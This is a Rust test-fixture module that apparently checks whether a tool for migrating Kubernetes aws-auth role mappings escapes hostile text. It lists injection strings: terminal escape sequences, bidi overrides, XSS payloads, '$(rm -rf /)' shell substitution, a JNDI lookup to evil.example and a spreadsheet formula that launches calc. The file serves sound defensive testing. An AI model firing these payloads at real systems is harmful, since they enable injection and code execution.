//! Texts that would break out of one format or another, and the plan that has them everywhere.

use proptest::prelude::*;

use super::build::{ACCOUNT, entry, finish, id, mapping, plan};
use crate::finding::{Code, Finding};
use crate::model::Section;
use crate::plan::document::{
    BindingChange, BindingEffect, Outcome, PlacedFinding, Plan, PlannedAccount,
};

/// Texts that mean something to a format, a language or a terminal.
pub(crate) const HOSTILE: &[&str] = &[
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "before\rafter",
    "one\ntwo\n+ create     mapRoles[9]  role/fake",
    "\u{202e}gnp.exe\u{2066}x\u{2069}",
    "zero\u{200b}width\u{feff}\u{2028}\u{2029}\u{85}\u{9b}31m",
    "</script></style><script>alert(1)</script><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "`tick` ``two`` ```\nfence",
    "a|b\\|c\\\\|d",
    "$(rm -rf /)`id`${jndi:ldap://evil.example/a}",
    "@octocat #1 org/repo#2 https://evil.example www.evil.example me@evil.example",
    "![x](https://evil.example/x.png) [y](javascript:alert(1)) **bold** _it_ <b>",
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "'=quoted",
    "yes",
    "0123",
    "1e3",
    "~",
    "- a: {b: [c]} # d",
    "&anchor *alias !!tag %dir",
    "役割-\u{1f512}-ローカル管理者",
    "e\u{301}\u{301}\u{301}",
    "aws-auth-migrate-text-0-xxxx",
    "\u{e0041}\u{e0042}",
    "   ",
    "\\x01\\u202e",
];

/// Every hostile text once in every place that takes text.
pub(crate) fn awkward() -> Plan {
    let mut texts: Vec<String> = HOSTILE.iter().map(|&text| text.to_owned()).collect();
    texts.push("n".repeat(300));
    texts.push(format!("{}!{}", "n".repeat(150), "n".repeat(150)));
    texts.push(format!("{}?{}", "n".repeat(150), "n".repeat(150)));
    with_texts(&texts)
}

/// A mapping for every text, which is in every place that takes text.
pub(crate) fn with_texts(texts: &[String]) -> Plan {
    let mappings = texts
        .iter()
        .enumerate()
        .map(|(index, text)| {
            let mut hostile = mapping("role/x", text, &[text, "devs"])
                .entry(entry(&format!("role/{text}"), Some(text), &[text]).view_in(text))
                .find(Code::NotLookedUp, text, text)
                .find(Code::RealArn, &format!("the name `{text}` is said"), "");
            hostile.arn = if index % 2 == 0 {
                text.clone()
            } else {
                format!("arn:aws:iam::{ACCOUNT}:role/{text}")
            };
            if let Some(entry) = &mut hostile.entry {
                entry.tags.insert(text.clone(), text.clone());
            }
            hostile.access.bindings = Some(vec![BindingChange {
                kind: "RoleBinding".to_owned(),
                namespace: Some(text.clone()),
                name: text.clone(),
                role: text.clone(),
                subject: text.clone(),
                effect: BindingEffect::Stops,
            }]);
            hostile
        })
        .collect();
    let mut plan = plan(mappings);
    let first = texts.first().cloned().unwrap_or_default();
    plan.cluster.name = Some(first.clone());
    plan.cluster.region = Some(first.clone());
    plan.cluster.platform_version = Some(first.clone());
    plan.source.resource_version = Some(first.clone());
    plan.accounts = texts
        .iter()
        .enumerate()
        .map(|(index, text)| PlannedAccount {
            id: id(Section::MapAccounts, index),
            line: index + 1,
            account_id: text.clone(),
            outcome: Outcome::Blocked,
            findings: vec![Finding::new(Code::MapAccounts, text, text)],
            decision: None,
        })
        .collect();
    plan.findings = texts
        .iter()
        .map(|text| PlacedFinding {
            finding: Finding::new(Code::UnknownSection, text, text),
            section: Some(Section::MapRoles),
            line: Some(1),
            column: None,
        })
        .collect();
    finish(plan)
}

/// Any text, and often one that means something to a format or a language.
pub(crate) fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        3 => proptest::sample::select(HOSTILE).prop_map(str::to_owned),
        2 => r#"[-+=@'"`|<>&\\\n\r\t:#{}$%\[\],~!* a]{1,6}"#,
        1 => any::<String>(),
    ];
    proptest::collection::vec(piece, 1..4)
        .prop_map(|pieces| pieces.concat())
        // What is empty is left out, which is a matter of the plan and not of its texts.
        .prop_filter("empty", |text| !text.is_empty())
}
